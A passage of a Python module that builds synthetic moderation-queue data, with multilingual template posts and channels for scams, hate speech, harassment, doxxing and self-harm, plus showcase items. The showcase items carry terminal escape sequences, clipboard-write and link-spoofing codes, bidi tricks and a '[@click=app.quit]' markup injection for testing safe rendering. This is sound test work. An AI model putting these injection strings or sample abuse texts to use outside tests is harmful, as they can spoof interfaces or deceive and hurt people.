"""Deterministic demo data: a trust-and-safety moderation queue, as ItemInput dicts.

`generate(n, seed=, now=)` yields `n` items in the `POST /v1/items` ItemInput shape of
docs/protocol.md; `seed_demo(store, n, ...)` feeds them to the reference backend's store.
The same `(n, seed, now)` always gives the same items, and a smaller `n` gives a prefix
of a larger one, so a test can name an item by its id (`it-0000042`). Only times move
with `now`: every time is a whole number of seconds before it.

Why it looks the way it does: the demo is the first thing a newcomer sees and the data
every UI test runs against, so it carries what a real queue carries — posts (~85%) and
channels (~15%) in fifteen languages and scripts (right-to-left, CJK, Devanagari) and emoji,
reports from all four sources in realistic shares (user reports ~70%, automated ~18%,
trusted flaggers ~8%, authority orders ~2%; a few items mass-reported by 20-200 users),
deadlines overdue and due within the hour, near-duplicate spam campaigns (~5%), and
hostile text (~3%) that must be rendered safely. All persons, handles, addresses and
organisations are invented; authorities are real institutions named only as senders of
fictional orders; content is tame and non-graphic.

Showcase: the first 30 items are fixed (independent of `seed` and `n`, times relative
to `now`), so even `n=50` exercises every case. Other tests and the UI rely on them:

======  =======  ==================================================================
id      kind     what it is
======  =======  ==================================================================
  1     post     EU terrorist-content (TCO) order, DE Bundeskriminalamt, due in 35 min
  2     channel  EU TCO order, FR, 20 min overdue; Arabic (RTL) channel; trusted flagger
  3     post     RU order (Roskomnadzor) against anti-war speech: flagged country
  4     post     TR order (BTK) against local journalism: flagged country, due in 4 h
  5     post     trusted-flagger hate-speech notice, 6 h overdue
  6     post     csam: hotline notice + hash match; an album link and images (sensitive)
  7     post     automated only: nsfw-img-v3 at 0.62 on a beach photo (false positive)
  8     post     mass-reported by 150 users within 40 min: benign football post (Polish)
  9-12  post     spam campaign: @crypto_gains_01.._04, one normalised text
 13     channel  homoglyph title "Раypal Support" (Cyrillic Р, а), impersonation
 14     post     ANSI CSI colour, erase-line and cursor-up spoofing a "reviewed" line
 15     post     OSC 52 clipboard write in a report comment
 16     post     OSC 8 hyperlink whose visible URL differs from its target
 17     post     C1 controls (U+009B CSI, U+0085, U+009D..U+009C) in handle, name, text
 18     channel  Rich markup "[bold red]…[/]" in the title, "[blink]" in the text
 19     post     "[@click=app.quit]click me[/]" in text and a comment
 20     post     a lone "[/" in handle, display name and text
 21     post     bidi: U+202E in a file name; U+2066..U+2069 isolates in the name
 22     post     zero-width U+200B, U+200C, U+200D, U+2060, U+FEFF in text and handle
 23     post     100 KiB body (one unbroken line)
 24     post     Persian harassment with legitimate ZWNJ (must not be flagged)
 25     post     Japanese doxxing of an invented person; trusted flagger due in 14 h
 26     channel  Russian forged-documents shop; automated flag + user reports
 27     post     Hindi self-harm post (sensitive)
 28     post     BR electoral-court order, due in 30 min (a non-TCO order in the hour)
 29     post     Chinese piracy link, IP trusted flagger, video media
 30     post     "going to kill it at my exam": false positive, user report 79 h old
======  =======  ==================================================================
"""

from __future__ import annotations

import random
import re
import time
from bisect import bisect
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from functools import cache
from typing import Any, Protocol

Json = dict[str, Any]

MINUTE = 60
HOUR = 3600
DAY = 86400

REASONS = (
    "spam", "scam_fraud", "hate_speech", "harassment", "violent_extremism", "csam",
    "self_harm", "graphic_violence", "illegal_goods", "ip_infringement",
    "privacy_doxxing", "impersonation", "election_misinfo", "other",
)
SOURCES = ("user_report", "automated", "trusted_flagger", "authority_order")
SHOWCASE_SIZE = 30

# Target share of each source among all reports (they need not sum to 1).
SOURCE_SHARES = {"user_report": 0.70, "automated": 0.18, "trusted_flagger": 0.08, "authority_order": 0.02}
CAMPAIGN_SHARE = 0.05
CHANNEL_SHARE = 0.15 / (1 - CAMPAIGN_SHARE)  # campaigns are posts
HOSTILE_TEXT_SHARE = 0.022  # hostile text, title or comment; hostile names add ~1%
HOSTILE_AUTHOR_SHARE = 0.01
BIG_BODY_SHARE = 1 / 5000
MASS_REPORT_SHARE = 0.001
NEW_AUTHOR_SHARE = 0.25  # the author pool ends near n/4: profiles have several items
MEDIA_SHARE = 0.25

# Ages (seconds before now) at which a lead report arrives, per source. User reports
# run a little past their 72 h deadline, trusted flaggers past 24 h, TCO orders past
# their hour, so every demo has some overdue items and some due within the hour.
USER_MAX_AGE = 80 * HOUR
FLAGGER_MAX_AGE = 30 * HOUR
TCO_MAX_AGE = 80 * MINUTE
ORDER_MAX_AGE = 30 * HOUR


# ---------------------------------------------------------------------------
# Fast ISO times. A million items need millions of timestamps; datetime.isoformat
# costs about a microsecond each. A cached hour prefix plus a 3,600-entry table of
# "MM:SSZ" (small enough to stay in the CPU cache) costs a fifth of that.


@cache
def _minute_seconds() -> tuple[str, ...]:
    return tuple(f"{s // 60:02d}:{s % 60:02d}Z" for s in range(HOUR))


HOURS = tuple(f"T{h:02d}:" for h in range(24))


def _iso_formatter(now: int) -> Callable[[int], str]:
    """Whole-second epoch times as protocol strings: `2026-11-28T19:34:00Z`.

    A closure rather than a method: its caches are local variables, not attributes, on
    the hottest call of the generator.
    """
    hours: dict[int, str] = {}
    days: dict[int, str] = {}
    minute_seconds = _minute_seconds()
    cached_from = (now - 500 * DAY) // HOUR  # account creation times span years: not worth caching

    def iso(t: int) -> str:
        hour = t // HOUR
        prefix = hours.get(hour)
        if prefix is None:
            day = hour // 24
            date = days.get(day)
            if date is None:
                date = days[day] = time.strftime("%Y-%m-%d", time.gmtime(day * DAY))
            prefix = date + HOURS[hour % 24]
            if hour >= cached_from:
                hours[hour] = prefix
        return prefix + minute_seconds[t - hour * HOUR]

    return iso


class _Clock:
    """`now` as whole seconds, and times relative to it as protocol strings."""

    def __init__(self, now: float) -> None:
        self.now = int(now)
        self.year = time.gmtime(self.now).tm_year
        self.iso = _iso_formatter(self.now)

    def ago(self, seconds: int) -> str:
        return self.iso(self.now - seconds)


# ---------------------------------------------------------------------------
# Content. Each text has exactly one slot, {link} or {at}, filled per item with a
# random link slug or @mention: the server groups items whose text normalises the
# same into campaigns, so ordinary items must differ in letters, not only in digits.
#
# tag: "bad" violates the reason; "benign" is a false positive reported under it;
# "political" is lawful speech that some authorities order removed.

POSTS: tuple[tuple[str, str, str, str], ...] = (
    # English
    ("en", "spam", "bad", "Get 10,000 followers in 24 hours 🔥 cheapest price guaranteed → {link}"),
    ("en", "spam", "bad", "I made $3,200 this week working from home, ask me how! {link}"),
    ("en", "spam", "bad", "FREE phone giveaway!! Like, share and register here: {link}"),
    ("en", "spam", "bad", "Lonely tonight? Singles near you are waiting 😘 {link}"),
    ("en", "scam_fraud", "bad", "Your parcel could not be delivered. Pay the $1.99 redelivery fee here: {link}"),
    ("en", "scam_fraud", "bad", "Congratulations! You were selected for a $1,000 gift card. Claim within 24h: {link}"),
    ("en", "scam_fraud", "bad", "Official exchange giveaway: send 0.1 BTC and get 0.2 BTC back! Verify at {link}"),
    ("en", "scam_fraud", "bad", "Hi mum, I lost my phone, this is my new account. Can you send me money today? Ask {at}"),
    ("en", "harassment", "bad", "{at} nobody likes you, just delete your account already"),
    ("en", "harassment", "bad", "Everyone go report {at} and flood their DMs until they quit"),
    ("en", "harassment", "bad", "{at} I know where you work. Watch yourself."),
    ("en", "hate_speech", "bad", "People like {at} and their kind don't belong in this country. Send them all back."),
    ("en", "hate_speech", "bad", "Those people are ruining our town, they are not like us. Spread the word {link}"),
    ("en", "violent_extremism", "bad", "The new issue of our magazine is out. Read and share before they delete it: {link}"),
    ("en", "violent_extremism", "bad", "Brothers, the time for words is over. Join us, details in the channel {link}"),
    ("en", "csam", "bad", "album {link}"),
    ("en", "self_harm", "bad", "Nobody would even notice if I was gone. {at} thanks for everything, goodbye."),
    ("en", "graphic_violence", "bad", "Uncensored video of the crash on the highway this morning, no blur {link}"),
    ("en", "graphic_violence", "bad", "Footage of the fight outside the club last night 😳 {link}"),
    ("en", "illegal_goods", "bad", "Pills, no prescription needed, discreet shipping worldwide. Telegram {at}"),
    ("en", "illegal_goods", "bad", "Selling handguns, no paperwork, cash only. DM {at}"),
    ("en", "illegal_goods", "bad", "Fake IDs and driving licences, all countries, scannable: {link}"),
    ("en", "ip_infringement", "bad", "Watch the new blockbuster full movie in HD, free, no signup ▶ {link}"),
    ("en", "ip_infringement", "bad", "All premium courses leaked, download free: {link}"),
    ("en", "privacy_doxxing", "bad", "This is where {at} lives: 12 Example Road, Springfield. Phone +1 555 0142. You know what to do."),
    ("en", "privacy_doxxing", "bad", "Found the real name and workplace of {at}, posting everything in the replies"),
    ("en", "impersonation", "bad", "Official Support here. Your account will be suspended, verify your identity now: {link}"),
    ("en", "impersonation", "bad", "I am the real owner of this brand, the other account is fake. Send orders to {at}"),
    ("en", "election_misinfo", "bad", "Reminder: because of high turnout, opposition voters vote on Wednesday this year. {link}"),
    ("en", "election_misinfo", "bad", "You can now vote by text message! Send your choice to 55555 and share with {at}"),
    ("en", "election_misinfo", "bad", "BREAKING: polling stations in the north are closed tomorrow, don't bother going {link}"),
    ("en", "harassment", "benign", "{at} you absolute legend, I'm going to destroy you at chess next time 😂"),
    ("en", "spam", "benign", "Homemade lasagna for the weekend, full recipe here {link}"),
    ("en", "hate_speech", "benign", "Our team got robbed again, that referee should be banned for life 😤 {at}"),
    ("en", "other", "benign", "Sunset at the beach today 🌅 {at}"),
    ("en", "graphic_violence", "benign", "Butchery class today: how to break down a whole chicken {link}"),
    ("en", "other", "benign", "Can't believe it's been 10 years since we met {at} ❤️"),
    # German
    ("de", "spam", "bad", "Verdiene 500 € am Tag von zu Hause aus! Keine Erfahrung nötig 👉 {link}"),
    ("de", "scam_fraud", "bad", "Ihr Paket konnte nicht zugestellt werden. Bitte zahlen Sie 1,99 € Zollgebühr: {link}"),
    ("de", "scam_fraud", "bad", "Hallo Mama, das ist mein neuer Account. Kannst du mir heute Geld überweisen? Schreib {at}"),
    ("de", "hate_speech", "bad", "Diese Leute gehören nicht hierher. Schickt sie alle zurück! {link}"),
    ("de", "harassment", "bad", "{at} du bist so erbärmlich, lösch einfach deinen Account"),
    ("de", "election_misinfo", "bad", "Achtung: Briefwahlstimmen werden dieses Jahr nicht gezählt! Geht am Montag wählen {link}"),
    ("de", "violent_extremism", "bad", "Die neue Ausgabe ist da. Lesen und teilen, bevor sie gelöscht wird: {link}"),
    ("de", "illegal_goods", "bad", "Tabletten ohne Rezept, diskreter Versand. Telegram: {at}"),
    ("de", "spam", "benign", "Endlich Wochenende! Wer kommt mit zum Flohmarkt? {at}"),
    # French
    ("fr", "spam", "bad", "Gagnez 300 € par jour depuis chez vous, c'est simple ! 👉 {link}"),
    ("fr", "scam_fraud", "bad", "Votre compte santé a été suspendu. Mettez à jour vos informations ici : {link}"),
    ("fr", "hate_speech", "bad", "Ces gens-là ne sont pas comme nous, qu'ils rentrent chez eux. {at}"),
    ("fr", "harassment", "bad", "{at} t'es vraiment qu'un raté, personne ne veut de toi ici"),
    ("fr", "election_misinfo", "bad", "Info : à cause de l'affluence, certains électeurs votent lundi cette année ! {link}"),
    ("fr", "ip_infringement", "bad", "Film complet en HD gratuit, sans inscription ▶ {link}"),
    ("fr", "violent_extremism", "bad", "Rejoignez nos frères, le moment est venu. Tout est expliqué ici : {link}"),
    ("fr", "spam", "benign", "Ma tarte aux pommes du dimanche 🍎 la recette ici {link}"),
    # Spanish
    ("es", "spam", "bad", "¡Gana dinero desde casa sin experiencia! Escríbeme {at}"),
    ("es", "scam_fraud", "bad", "Su cuenta bancaria ha sido bloqueada. Verifique sus datos aquí: {link}"),
    ("es", "harassment", "bad", "{at} eres un payaso, nadie te soporta, vete de la red"),
    ("es", "hate_speech", "bad", "Esa gente no pertenece a nuestro país, que se vayan todos. {link}"),
    ("es", "illegal_goods", "bad", "Vendo pastillas sin receta, envío discreto a toda España. {at}"),
    ("es", "election_misinfo", "bad", "¡Atención! Este año se puede votar por mensaje, solo envía tu voto a {at}"),
    ("es", "privacy_doxxing", "bad", "Esta es la dirección de {at}: Calle Ejemplo 12, 3ºB. Ya sabéis qué hacer."),
    ("es", "harassment", "benign", "Qué partidazo ayer 🔥 {at} te voy a matar en la revancha jaja"),
    # Portuguese (Brazil)
    ("pt", "spam", "bad", "Ganhe R$ 500 por dia trabalhando em casa! Chama no zap {at}"),
    ("pt", "scam_fraud", "bad", "Você ganhou um Pix de R$ 1.000! Resgate agora: {link}"),
    ("pt", "election_misinfo", "bad", "URGENTE: as urnas foram adulteradas, não vá votar no domingo! {link}"),
    ("pt", "harassment", "bad", "{at} você é ridícula, ninguém te aguenta, sai da internet"),
    ("pt", "hate_speech", "bad", "Essa gente não presta, tem que expulsar todos daqui. {link}"),
    ("pt", "ip_infringement", "bad", "Todos os jogos do campeonato ao vivo e grátis, sem travar ▶ {link}"),
    ("pt", "spam", "benign", "Bom dia grupo! ☀️ café pronto {at}"),
    # Polish
    ("pl", "spam", "bad", "Zarabiaj 2000 zł tygodniowo w domu! Szczegóły: {link}"),
    ("pl", "scam_fraud", "bad", "Twoja paczka czeka na dopłatę 1,99 zł. Zapłać tutaj: {link}"),
    ("pl", "hate_speech", "bad", "Tacy jak oni nie powinni tu mieszkać. Wyrzucić ich wszystkich! {at}"),
    ("pl", "harassment", "bad", "{at} jesteś żałosny, nikt cię tu nie chce"),
    ("pl", "election_misinfo", "bad", "Uwaga! W tym roku głosujemy przez internet, wystarczy kliknąć: {link}"),
    ("pl", "harassment", "benign", "Ale mecz wczoraj! Nasza drużyna pokazała klasę 💪 {at}"),
    # Turkish
    ("tr", "spam", "bad", "Günde 1000 TL kazan, evden çalış! Detaylar: {link}"),
    ("tr", "scam_fraud", "bad", "Tebrikler! 5.000 TL hediye çeki kazandınız. Hemen alın: {link}"),
    ("tr", "harassment", "bad", "{at} sen tam bir zavallısın, kimse seni burada istemiyor"),
    ("tr", "hate_speech", "bad", "Bu insanlar bizden değil, hepsi gitsin! {link}"),
    ("tr", "illegal_goods", "bad", "Reçetesiz ilaç satılır, gizli kargo. İletişim {at}"),
    ("tr", "other", "political", "Belediyedeki ihale usulsüzlüğünü belgeleriyle yazdım, okuyun ve paylaşın: {link}"),
    ("tr", "spam", "benign", "Akşam yemeğinde mantı yaptık 😋 tarifi burada {link}"),
    # Russian
    ("ru", "spam", "bad", "Заработок от 5000 ₽ в день без вложений! Пиши {at}"),
    ("ru", "scam_fraud", "bad", "Ваша карта заблокирована. Для разблокировки перейдите по ссылке: {link}"),
    ("ru", "election_misinfo", "bad", "Срочно! Голосование перенесли на понедельник, в воскресенье не ходите {link}"),
    ("ru", "illegal_goods", "bad", "Продам документы любой страны: права, паспорта. Пишите {at}"),
    ("ru", "harassment", "bad", "{at} ты жалкий неудачник, удали свой аккаунт"),
    ("ru", "hate_speech", "bad", "Этим людям здесь не место, пусть убираются! {link}"),
    ("ru", "other", "political", "Нет войне. Выходите в воскресенье на мирную акцию, подробности: {link}"),
    # Ukrainian
    ("uk", "scam_fraud", "bad", "Вітаємо! Вам нараховано виплату 6500 грн. Оформіть тут: {link}"),
    ("uk", "spam", "bad", "Заробіток онлайн від 1000 грн на день! Пиши {at}"),
    ("uk", "harassment", "bad", "{at} ти нікчема, тебе тут ніхто не чекає"),
    ("uk", "other", "benign", "Сьогодні зварила борщ за бабусиним рецептом ❤️ {at}"),
    # Arabic
    ("ar", "spam", "bad", "اربح 500 دولار يومياً من المنزل! تواصل معي {at}"),
    ("ar", "scam_fraud", "bad", "مبروك! لقد ربحت جائزة قيمتها 10,000 ريال. اضغط هنا للاستلام: {link}"),
    ("ar", "violent_extremism", "bad", "انضموا إلينا يا إخوة، لقد حان الوقت. التفاصيل في القناة {link}"),
    ("ar", "hate_speech", "bad", "هؤلاء الناس لا مكان لهم بيننا، يجب طردهم جميعاً {at}"),
    ("ar", "harassment", "bad", "{at} أنت فاشل ولا أحد يريدك هنا"),
    ("ar", "illegal_goods", "bad", "أدوية بدون وصفة طبية، توصيل سري. راسلني {at}"),
    ("ar", "spam", "benign", "صباح الخير يا أصدقاء ☕ {at}"),
    # Persian (ZWNJ inside words is ordinary Persian orthography, not an attack)
    ("fa", "spam", "bad", "کسب درآمد روزانه از خانه بدون سرمایه! پیام بده {at}"),
    ("fa", "scam_fraud", "bad", "حساب بانکی شما مسدود شده است. برای فعال‌سازی وارد شوید: {link}"),
    ("fa", "harassment", "bad", "{at} تو یک بازنده‌ای، هیچ‌کس اینجا تو را نمی‌خواهد"),
    ("fa", "hate_speech", "bad", "این آدم‌ها جایی بین ما ندارند، همه باید بروند {link}"),
    ("fa", "other", "benign", "امروز با خانواده رفتیم کوه، هوا عالی بود 🏔️ {at}"),
    # Hindi
    ("hi", "spam", "bad", "घर बैठे रोज़ ₹2000 कमाएं! अभी जुड़ें {link}"),
    ("hi", "scam_fraud", "bad", "बधाई हो! आपने ₹50,000 का इनाम जीता है। यहां क्लिक करें: {link}"),
    ("hi", "election_misinfo", "bad", "ज़रूरी सूचना: इस बार वोटिंग मैसेज से होगी, अपना वोट {at} पर भेजें"),
    ("hi", "harassment", "bad", "{at} तुम किसी काम के नहीं हो, यहां से चले जाओ"),
    ("hi", "self_harm", "bad", "अब और नहीं सह सकता, सबको अलविदा {at}"),
    ("hi", "other", "benign", "आज माँ ने गाजर का हलवा बनाया 😋 {at}"),
    # Chinese
    ("zh", "spam", "bad", "日赚500元，在家兼职，无需经验！加我 {at}"),
    ("zh", "scam_fraud", "bad", "您的账户存在异常，请立即点击链接验证身份：{link}"),
    ("zh", "illegal_goods", "bad", "出售各类证件，包过，联系 {at}"),
    ("zh", "ip_infringement", "bad", "最新电影高清免费在线看，无需注册 ▶ {link}"),
    ("zh", "other", "benign", "今天做了红烧肉，太香了 😋 {at}"),
    # Japanese
    ("ja", "spam", "bad", "スマホだけで月収100万円！詳しくはこちら {link}"),
    ("ja", "scam_fraud", "bad", "【重要】お客様のアカウントが一時停止されました。こちらから確認してください：{link}"),
    ("ja", "harassment", "bad", "{at} お前なんか誰も必要としてない、消えろ"),
    ("ja", "privacy_doxxing", "bad", "{at} の本名と住所を晒します。拡散希望"),
    ("ja", "other", "benign", "今日のお弁当です🍱 {at}"),
    # Korean
    ("ko", "spam", "bad", "하루 30만원 재택 부업! 문의는 {at}"),
    ("ko", "scam_fraud", "bad", "[국제발신] 고객님의 택배가 주소 불명으로 보관 중입니다. 확인: {link}"),
    ("ko", "election_misinfo", "bad", "속보: 이번 선거는 모바일로도 투표 가능합니다! 신청 {link}"),
    ("ko", "harassment", "bad", "{at} 너 진짜 한심하다, 여기서 꺼져"),
    ("ko", "other", "benign", "오늘 점심은 김치찌개 🍲 {at}"),
    # Emoji only ("und": undetermined language)
    ("und", "spam", "bad", "💰💰💰🚀🚀 {link} 🔥🔥"),
    ("und", "harassment", "bad", "{at} 🤡🤡🤡🖕"),
    ("und", "other", "benign", "😂😂😂 {at}"),
    # More languages for the reasons above, so no reason is English-only
    ("de", "graphic_violence", "bad", "Unzensiertes Video vom Unfall auf der Autobahn heute Morgen {link}"),
    ("es", "graphic_violence", "bad", "Video sin censura del accidente de esta mañana en la autopista {link}"),
    ("pt", "graphic_violence", "bad", "Vídeo sem censura da briga na saída da festa ontem 😳 {link}"),
    ("ru", "graphic_violence", "bad", "Видео драки у клуба вчера ночью без цензуры {link}"),
    ("ar", "graphic_violence", "bad", "فيديو الحادث كاملاً بدون تشويش {link}"),
    ("tr", "graphic_violence", "bad", "Dün geceki kavganın sansürsüz videosu {link}"),
    ("de", "impersonation", "bad", "Offizieller Kundenservice: Ihr Konto wird gesperrt, bestätigen Sie jetzt Ihre Daten: {link}"),
    ("es", "impersonation", "bad", "Soporte oficial: tu cuenta será suspendida, verifica tu identidad aquí: {link}"),
    ("pt", "impersonation", "bad", "Suporte oficial: sua conta será bloqueada, confirme seus dados: {link}"),
    ("fr", "impersonation", "bad", "Service client officiel : votre compte sera suspendu, vérifiez votre identité : {link}"),
    ("ru", "impersonation", "bad", "Служба поддержки: ваш аккаунт будет заблокирован, подтвердите данные: {link}"),
    ("ar", "impersonation", "bad", "الدعم الرسمي: سيتم إيقاف حسابك، أكّد بياناتك الآن: {link}"),
    ("de", "csam", "bad", "Album {link}"),
    ("es", "csam", "bad", "álbum {link}"),
    ("pt", "csam", "bad", "álbum novo {link}"),
    ("ru", "csam", "bad", "альбом {link}"),
    ("es", "self_harm", "bad", "Ya no puedo más. Gracias por todo {at}, adiós."),
    ("pt", "self_harm", "bad", "Não aguento mais. Obrigada por tudo {at}, adeus."),
    ("de", "self_harm", "bad", "Ich kann nicht mehr. Danke für alles {at}, macht's gut."),
    ("ru", "self_harm", "bad", "Я больше не могу. Спасибо за всё {at}, прощайте."),
    ("ar", "self_harm", "bad", "لم أعد أحتمل. شكراً لكل شيء {at}، وداعاً."),
    ("ja", "self_harm", "bad", "もう限界です。{at} 今までありがとう、さようなら。"),
    ("de", "privacy_doxxing", "bad", "Hier wohnt {at}: Musterstraße 12, 12345 Musterstadt. Ihr wisst, was zu tun ist."),
    ("ru", "privacy_doxxing", "bad", "Вот адрес {at}: ул. Примерная, д. 12. Сами знаете, что делать."),
    ("pt", "privacy_doxxing", "bad", "Esse é o endereço de {at}: Rua Exemplo, 12. Vocês sabem o que fazer."),
    ("ko", "privacy_doxxing", "bad", "{at} 실명이랑 주소 공개합니다. 퍼뜨려 주세요"),
    ("tr", "privacy_doxxing", "bad", "{at} adlı kişinin ev adresi: Örnek Sokak No: 12. Gereğini yapın."),
    ("es", "ip_infringement", "bad", "Todos los partidos de la liga en directo y gratis ▶ {link}"),
    ("de", "ip_infringement", "bad", "Alle neuen Filme kostenlos in HD, ohne Anmeldung ▶ {link}"),
    ("ru", "ip_infringement", "bad", "Новые фильмы бесплатно в HD без регистрации ▶ {link}"),
    ("ar", "ip_infringement", "bad", "شاهد أحدث الأفلام مجاناً بجودة عالية ▶ {link}"),
    ("hi", "ip_infringement", "bad", "नई फिल्में मुफ्त में HD में देखें ▶ {link}"),
    ("ja", "ip_infringement", "bad", "最新映画を無料で視聴 ▶ {link}"),
    ("es", "violent_extremism", "bad", "Hermanos, ha llegado la hora. Únete, todo está en el canal {link}"),
    ("tr", "violent_extremism", "bad", "Kardeşler, vakit geldi. Bize katılın, detaylar kanalda {link}"),
    ("ru", "violent_extremism", "bad", "Братья, время слов прошло. Присоединяйтесь, подробности в канале {link}"),
)

CHANNELS: tuple[tuple[str, str, str, str, str], ...] = (
    ("en", "spam", "bad", "Crypto Signals VIP 💎", "Daily pump signals, 500% guaranteed. Join the VIP group: {link}"),
    ("en", "scam_fraud", "bad", "Investment Club Official", "Double your money in 7 days. Admin {at} answers all questions"),
    ("en", "illegal_goods", "bad", "Pharmacy Express 24/7", "Meds without prescription, worldwide shipping. Order via {at}"),
    ("en", "ip_infringement", "bad", "Movies HD Free", "All new releases in HD, no ads, new links daily {link}"),
    ("en", "violent_extremism", "bad", "The Awakening", "News for true believers. Backup channel: {link}"),
    ("en", "impersonation", "bad", "Customer Support Team", "Official help desk. Send us your login details to restore your account {at}"),
    ("en", "privacy_doxxing", "bad", "Exposed", "Real names of people who annoyed us. Submit yours via {link}"),
    ("en", "csam", "bad", "pics exchange", "invite only, ask {at}"),
    ("en", "other", "benign", "Dog Lovers Club 🐶", "Share photos of your dogs! Rule one: be kind. Admin {at}"),
    ("de", "election_misinfo", "bad", "Wahrheit Jetzt", "Was die Medien verschweigen. Backup-Kanal: {link}"),
    ("de", "spam", "bad", "Schnell Reich Werden", "Passives Einkommen mit Krypto. Fragen an {at}"),
    ("ru", "illegal_goods", "bad", "Документы Быстро", "Права, паспорта, дипломы. Пишите {at}"),
    ("ru", "other", "political", "Новости без цензуры", "Правда о войне. Резервный канал: {link}"),
    ("uk", "spam", "bad", "Заробіток Онлайн", "Легкі гроші щодня, пиши {at}"),
    ("ar", "violent_extremism", "bad", "أخبار الجبهة", "آخر الأخبار والإصدارات. القناة الاحتياطية: {link}"),
    ("fa", "spam", "bad", "فروش فالوور", "فالوور ایرانی و خارجی با قیمت مناسب {at}"),
    ("tr", "ip_infringement", "bad", "Bedava Dizi İzle", "Tüm diziler HD ve reklamsız {link}"),
    ("pt", "spam", "bad", "Sinais Cripto 💰", "Lucro garantido todo dia, entra no grupo {link}"),
    ("es", "scam_fraud", "bad", "Ofertas Increíbles", "Productos de marca con 90% de descuento {link}"),
    ("hi", "scam_fraud", "bad", "क्रिकेट टिप्स 100% पक्की", "हर मैच की पक्की टिप, संपर्क करें {at}"),
    ("zh", "ip_infringement", "bad", "免费电影资源", "每日更新最新电影 {link}"),
    ("ja", "spam", "bad", "副業で稼ぐ会", "誰でも簡単に稼げる方法を紹介 {at}"),
    ("ko", "ip_infringement", "bad", "무료 웹툰 보기", "모든 유료 웹툰 무료 공개 {link}"),
    ("pl", "illegal_goods", "bad", "Tanie Leki Bez Recepty", "Wysyłka dyskretna, pisz {at}"),
    ("fr", "scam_fraud", "bad", "Paris Sportifs Gagnants", "Pronostics sûrs à 100 %, rejoins le VIP {link}"),
    ("es", "impersonation", "bad", "Soporte Técnico Oficial", "Atención al cliente 24h. Envíanos tu usuario y contraseña {at}"),
    ("pt", "privacy_doxxing", "bad", "Exposed BR", "Nomes e endereços de quem nos irritou. Mande o seu: {link}"),
    ("pt", "graphic_violence", "bad", "Vídeos Sem Censura", "Acidentes e brigas reais, sem corte {link}"),
    ("ar", "illegal_goods", "bad", "صيدلية بدون وصفة", "كل الأدوية بدون وصفة، توصيل سري {at}"),
    ("de", "violent_extremism", "bad", "Das Erwachen", "Nachrichten für wahre Gläubige. Ersatzkanal: {link}"),
    ("fr", "other", "benign", "Club Jardinage 🌱", "Partagez vos potagers ! Admin {at}"),
    ("es", "other", "benign", "Recetas de la Abuela", "Recetas caseras todos los días, admin {at}"),
    ("tr", "other", "political", "Sansürsüz Haber", "Belediyedeki yolsuzluk haberleri. Yedek kanal: {link}"),
    ("hi", "election_misinfo", "bad", "चुनाव सच", "वोटिंग की असली तारीख यहां जानें {link}"),
    ("ru", "csam", "bad", "обмен фото", "только по приглашению, пишите {at}"),
)

LANGUAGE_WEIGHTS = {
    "en": 30, "es": 9, "pt": 8, "de": 6, "fr": 6, "ru": 6, "ar": 6, "tr": 5, "hi": 5,
    "pl": 3, "uk": 3, "fa": 3, "zh": 3, "ja": 3, "ko": 2, "und": 2,
}

# How often each source names each reason: automated flags find spam, hotlines find csam
# and hate, authorities order removal of terrorist content (and, in some countries,
# of political speech).
REASON_WEIGHTS: dict[str, dict[str, float]] = {
    "user_report": {
        "spam": 20, "scam_fraud": 14, "harassment": 16, "hate_speech": 12, "other": 10,
        "election_misinfo": 5, "illegal_goods": 4, "ip_infringement": 3, "privacy_doxxing": 3,
        "impersonation": 4, "violent_extremism": 2, "graphic_violence": 3, "self_harm": 2, "csam": 0.5,
    },
    "automated": {
        "spam": 35, "scam_fraud": 15, "hate_speech": 10, "harassment": 8, "graphic_violence": 6,
        "other": 8, "violent_extremism": 5, "csam": 2, "ip_infringement": 6, "illegal_goods": 3,
        "self_harm": 2,
    },
    "trusted_flagger": {
        "csam": 12, "hate_speech": 20, "violent_extremism": 12, "scam_fraud": 15, "ip_infringement": 15,
        "election_misinfo": 10, "illegal_goods": 8, "privacy_doxxing": 4, "impersonation": 4,
    },
    "authority_order": {
        "violent_extremism": 40, "illegal_goods": 12, "hate_speech": 14, "privacy_doxxing": 6,
        "election_misinfo": 10, "ip_infringement": 6, "other": 8, "csam": 4,
    },
}
SOURCE_TAGS = {
    "user_report": frozenset({"bad", "benign", "political"}),
    "automated": frozenset({"bad", "benign"}),
    "trusted_flagger": frozenset({"bad"}),
    "authority_order": frozenset({"bad", "political"}),
}

MODELS = {
    "spam": ("spam-clf-v7",), "scam_fraud": ("scam-detect-v4", "spam-clf-v7"),
    "hate_speech": ("hate-xlmr-v5",), "harassment": ("tox-bert-v9",),
    "violent_extremism": ("tvec-hash-v2",), "csam": ("csam-hash-v1",),
    "self_harm": ("selfharm-clf-v2",), "graphic_violence": ("gore-img-v3",),
    "illegal_goods": ("goods-clf-v3",), "ip_infringement": ("content-id-v6",),
    "privacy_doxxing": ("pii-ner-v2",), "impersonation": ("impostor-v1",),
    "election_misinfo": ("civic-llm-v2",), "other": ("nsfw-img-v3",),
}
HASH_MODELS = frozenset({"tvec-hash-v2", "csam-hash-v1", "content-id-v6"})

# Invented organisations, modelled on INHOPE-member hotlines and DSA trusted flaggers.
FLAGGERS = {
    "csam": ("Kinderveilig Meldpunt (NL)", "Alerte Enfance en Ligne (FR)", "Safe Web Hotline Ireland", "Linea Sicura Minori (IT)"),
    "hate_speech": ("Netzwacht Beschwerdestelle (DE)", "Observatorio Odio Digital (ES)", "Fundacja Czysta Sieć (PL)"),
    "violent_extremism": ("Netzwacht Beschwerdestelle (DE)", "Counter-Extremism Monitor Europe"),
    "harassment": ("Digital Dignity Helpline (AT)",),
    "privacy_doxxing": ("Digital Dignity Helpline (AT)",),
    "scam_fraud": ("Consumer Fraud Watch Europe",),
    "spam": ("Consumer Fraud Watch Europe",),
    "impersonation": ("Consumer Fraud Watch Europe",),
    "ip_infringement": ("Creative Works Protection Association",),
    "election_misinfo": ("European Fact-Check Network",),
    "illegal_goods": ("Safe Markets Online Coalition",),
}
DEFAULT_FLAGGER = ("Netzwacht Beschwerdestelle (DE)",)

EU = frozenset({"DE", "FR", "AT", "IT", "ES", "NL", "PL", "IE"})
TCO_BASIS = "Regulation (EU) 2021/784 Art. 3"
COUNTRY_WEIGHTS = {"DE": 15, "FR": 12, "AT": 5, "IT": 8, "ES": 8, "NL": 6, "PL": 6, "IE": 5, "BR": 10, "IN": 10, "TR": 8, "RU": 7}
# Competent authorities for terrorist-content removal orders, per EU country.
TCO_AUTHORITIES = {
    "DE": "Bundeskriminalamt", "FR": "OCLCTIC (Pharos)", "AT": "Direktion Staatsschutz und Nachrichtendienst",
